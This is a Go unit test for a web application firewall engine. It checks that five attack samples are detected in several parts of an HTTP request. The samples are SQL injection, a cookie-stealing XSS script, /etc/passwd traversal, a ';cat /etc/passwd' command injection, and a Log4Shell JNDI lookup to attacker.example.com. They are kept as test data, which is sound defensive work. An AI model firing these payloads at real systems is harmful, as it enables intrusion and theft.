package engine

import (
	"encoding/json"
	"net/url"
	"testing"

	"github.com/microgateway/microgateway/engine/waf/internal/config"
)

// The integration test's samples (test/src/waf/waf.itest.ts), checked here without Envoy so a
// rule-set change shows where it happened.
var attackSamples = map[string]string{
	"sql":  "1' OR '1'='1' --",
	"xss":  "<script>alert(document.cookie)</script>",
	"lfi":  "../../../../etc/passwd",
	"rce":  ";cat /etc/passwd",
	"jndi": "${jndi:ldap://attacker.example.com/a}",
}

var wantFamily = map[string]string{"sql": "sql", "xss": "xss", "lfi": "lfi", "rce": "rce-unix", "jndi": "java"}

func baseHeaders(extra ...Header) []Header {
	return append([]Header{{"host", "example.com"}, {"user-agent", "Mozilla/5.0 (X11; Linux x86_64)"}, {"accept", "*/*"}}, extra...)
}

func TestClassicAttacksInEveryPlace(t *testing.T) {
	e := newEngine(t, config.Default())
	for name, payload := range attackSamples {
		places := map[string]func() (Request, []byte){
			"query": func() (Request, []byte) {
				return Request{Method: "GET", Path: "/x?q=" + url.QueryEscape(payload), Protocol: "HTTP/1.1", Headers: baseHeaders()}, nil
			},
			"form": func() (Request, []byte) {
				return Request{Method: "POST", Path: "/x", Protocol: "HTTP/1.1", Headers: baseHeaders(Header{"content-type", "application/x-www-form-urlencoded"})}, []byte("q=" + url.QueryEscape(payload))
			},
			"json": func() (Request, []byte) {
				body, _ := json.Marshal(map[string]string{"q": payload})
				return Request{Method: "POST", Path: "/x", Protocol: "HTTP/1.1", Headers: baseHeaders(Header{"content-type", "application/json"})}, body
			},
			"cookie": func() (Request, []byte) {
				return Request{Method: "GET", Path: "/x", Protocol: "HTTP/1.1", Headers: baseHeaders(Header{"cookie", "q=" + url.QueryEscape(payload)})}, nil
			},
			"referer": func() (Request, []byte) {
				return Request{Method: "GET", Path: "/x", Protocol: "HTTP/1.1", Headers: baseHeaders(Header{"referer", payload})}, nil
			},
			"x-header": func() (Request, []byte) {
				return Request{Method: "GET", Path: "/x", Protocol: "HTTP/1.1", Headers: baseHeaders(Header{"x-data", payload})}, nil
			},
		}
		for place, build := range places {
			r, body := build()
			v := verdict(e, "", r, body)
			t.Logf("%-5s %-8s threat=%v family=%s rule=%d", name, place, v.Threat, v.Family, v.RuleID)
			if place == "x-header" || place == "referer" {
				continue // CRS reads a few named headers only; recorded for the log, not asserted
			}
			// In a cookie (not URL-decoded by CRS) the same payload can score under another family.
			if !v.Threat || (place != "cookie" && v.Family != wantFamily[name]) {
				t.Errorf("%s in %s: got %+v, want family %s", name, place, v, wantFamily[name])
			}
		}
	}
}
